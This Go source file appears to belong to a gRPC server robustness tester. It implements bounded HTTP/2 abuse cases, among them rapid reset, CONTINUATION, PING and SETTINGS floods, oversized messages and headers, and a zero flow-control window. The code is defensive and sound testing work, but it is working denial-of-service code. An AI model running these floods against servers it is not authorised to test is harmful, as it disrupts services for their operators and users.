package faults

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// session is HTTP/2 by hand. It reads nothing but for its own good.
type session struct {
	*http2.Framer
	conn net.Conn
}

func newSession(raw net.Conn) (session, error) {
	conn, err := handshake(raw)
	if err != nil {
		return session{}, err
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return session{}, err
	}
	s := session{http2.NewFramer(conn, conn), conn}
	return s, s.WriteSettings()
}

func headers(method string, more ...string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	fields := append([]string{":method", "POST", ":scheme", "https", ":path", method, ":authority", "node",
		"content-type", "application/grpc", "te", "trailers"}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // into memory
	}
	return block.Bytes()
}

func (s session) call(method string, stream uint32) error {
	return s.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers(method), EndHeaders: true})
}

func (s session) send(stream uint32, message []byte) error {
	return s.WriteData(stream, false, append(announce(len(message)), message...))
}

// announce is the prefix of a gRPC message.
func announce(length int) []byte {
	return binary.BigEndian.AppendUint32([]byte{0}, uint32(length))
}

// Abuse is what one connection does until the server drops it or the amount is
// reached.
type Abuse struct {
	Name string
	do   func(session, Target) error
}

// many is how often an abuse is repeated, and each is bounded.
const many = 10000

// Abuses are G9 to G12.
var Abuses = []Abuse{
	{"G9 message of 4 MiB and more", func(s session, t Target) error {
		err := errors.Join(s.call(t.Method, 1), s.WriteData(1, false, announce(4<<20+1)))
		return errors.Join(err, s.call(t.Method, 3), s.WriteData(3, false, announce(2<<30-1)))
	}},
	{"G10 header list of 16 MiB", func(s session, t Target) error {
		block := headers(t.Method, "x", strings.Repeat("x", 16<<20))
		first := true
		for len(block) > 0 {
			n := min(len(block), 16<<10)
			if err := s.fragment(first, block[:n], n == len(block)); err != nil {
				return err
			}
			block, first = block[n:], false
		}
		return nil
	}},
	{"G10 10000 headers", func(s session, t Target) error {
		var more []string
		for i := range many {
			more = append(more, "x"+strconv.Itoa(i), "")
		}
		block := headers(t.Method, more...)
		return errors.Join(s.fragment(true, block[:16<<10], false), s.fragment(false, block[16<<10:32<<10], false))
	}},
	{"G11 10000 streams", func(s session, t Target) error {
		return repeat(func(i uint32) error { return s.call(t.Method, 2*i+1) })
	}},
	{"G11 rapid reset", func(s session, t Target) error {
		return repeat(func(i uint32) error {
			return errors.Join(s.call(t.Method, 2*i+1), s.WriteRSTStream(2*i+1, http2.ErrCodeCancel))
		})
	}},
	{"G12 PING flood", func(s session, _ Target) error {
		return repeat(func(uint32) error { return s.WritePing(false, [8]byte{}) })
	}},
	{"G12 SETTINGS flood", func(s session, _ Target) error {
		return repeat(func(uint32) error { return s.WriteSettings() })
	}},
	{"G12 no window", func(s session, t Target) error {
		err := s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		return errors.Join(err, s.call(t.Method, 1), s.send(1, t.Message))
	}},
	{"G12 CONTINUATION flood", func(s session, t Target) error {
		if err := s.fragment(true, headers(t.Method), false); err != nil {
			return err
		}
		return repeat(func(uint32) error { return s.fragment(false, nil, false) })
	}},
}

func repeat(do func(i uint32) error) error {
	for i := range uint32(many) {
		if err := do(i); err != nil {
			return err
		}
	}
	return nil
}

func (s session) fragment(first bool, block []byte, last bool) error {
	if first {
		return s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: last})
	}
	return s.WriteContinuation(1, last, block)
}

// Commit abuses a connection of its own, which it returns open. That the server
// hung up on it is no error.
func (a Abuse) Commit(ctx context.Context, target Target, source string) (net.Conn, error) {
	conn, err := Dial(ctx, target.Address, source)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(patience))
	s, err := newSession(conn)
	if err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	drained := make(chan struct{})
	go func() { _, _ = io.Copy(io.Discard, s.conn); close(drained) }()
	_ = a.do(s, target)
	_ = conn.SetDeadline(time.Now().Add(100 * time.Millisecond)) // to see whether it hangs up
	<-drained
	return conn, nil
}
